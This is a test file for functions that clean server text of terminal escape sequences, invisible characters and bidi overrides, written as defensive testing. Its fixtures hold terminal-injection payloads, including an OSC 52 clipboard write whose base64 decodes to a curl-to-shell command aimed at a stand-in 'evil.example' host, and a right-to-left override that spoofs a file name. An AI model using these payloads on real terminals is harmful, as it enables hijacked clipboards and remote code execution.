import { describe, expect, it } from 'vitest';
import { cleanServerText, serverTextExcerpt } from '../../../../shared/text/server-text.ts';

const ESC = '\u001b';
/** Anything a terminal would act on, or a reader could not see. */
// eslint-disable-next-line no-control-regex -- the point of the test
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2060-\u206f\ufeff]/u;

describe('cleanServerText', () => {
  it.each([
    ['clear screen and cursor home', `${ESC}[2J${ESC}[HBad request`, 'Bad request'],
    ['a window title (OSC 0, ended by BEL)', `${ESC}]0;pwned${ESC}\\Bad${ESC}]2;title\u0007 request`, 'Bad request'],
    ['an OSC 52 clipboard write of curl | sh', `Bad${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007 request`, 'Bad request'],
    ['colours (SGR)', `${ESC}[1;31mDenied${ESC}[0m`, 'Denied'],
    ['one-byte C1 CSI and OSC', `\u009b2JDenied\u009d0;title\u009c now`, 'Denied now'],
    ['a terminal reset (ESC c) and a DCS string', `${ESC}cDenied${ESC}Pq#0;2;0;0;0${ESC}\\ now`, 'Denied now'],
    ['an unterminated OSC swallows the rest', `Denied${ESC}]52;c;Y3VybA==`, 'Denied'],
    ['C0 controls, DEL and C1 become spaces', 'a\u0000b\u0007c\td\ne\u007ff\u0085g', 'a b c d e f g'],
    ['bidi overrides go', 'file\u202egnp.exe', 'filegnp.exe'],
  ])('%s', (_, input, expected) => {
    const clean = cleanServerText(input);
    expect(clean).toBe(expected);
    expect(clean).not.toMatch(UNSAFE);
    expect(clean).not.toContain(ESC);
  });

  it('normalises disguises: zero-width and format characters removed, NFKC folds full-width letters', () => {
    expect(cleanServerText('S\u200bx\u200c7\u200dq\u2060Z\ufeffk\u00adW')).toBe('Sx7qZkW');
    expect(cleanServerText('ＳＥＣＲＥＴ１２')).toBe('SECRET12');
  });

  it('keeps ordinary text, typographic quotes and non-Latin letters', () => {
    expect(cleanServerText('  Der Zugriff wurde verweigert: „Rolle“ — 許可がありません  ')).toBe('Der Zugriff wurde verweigert: „Rolle“ — 許可がありません');
  });
});

describe('serverTextExcerpt', () => {
  it('cuts the clean text to the length asked for, with an ellipsis, never inside a surrogate pair', () => {
    expect(serverTextExcerpt(`${ESC}[2J${'a'.repeat(100)}`, 10)).toBe(`${'a'.repeat(10)}…`);
    expect(serverTextExcerpt(`abc${'😀'.repeat(5)}`, 4)).toBe('abc…');
    expect(serverTextExcerpt('short', 10)).toBe('short');
  });
});
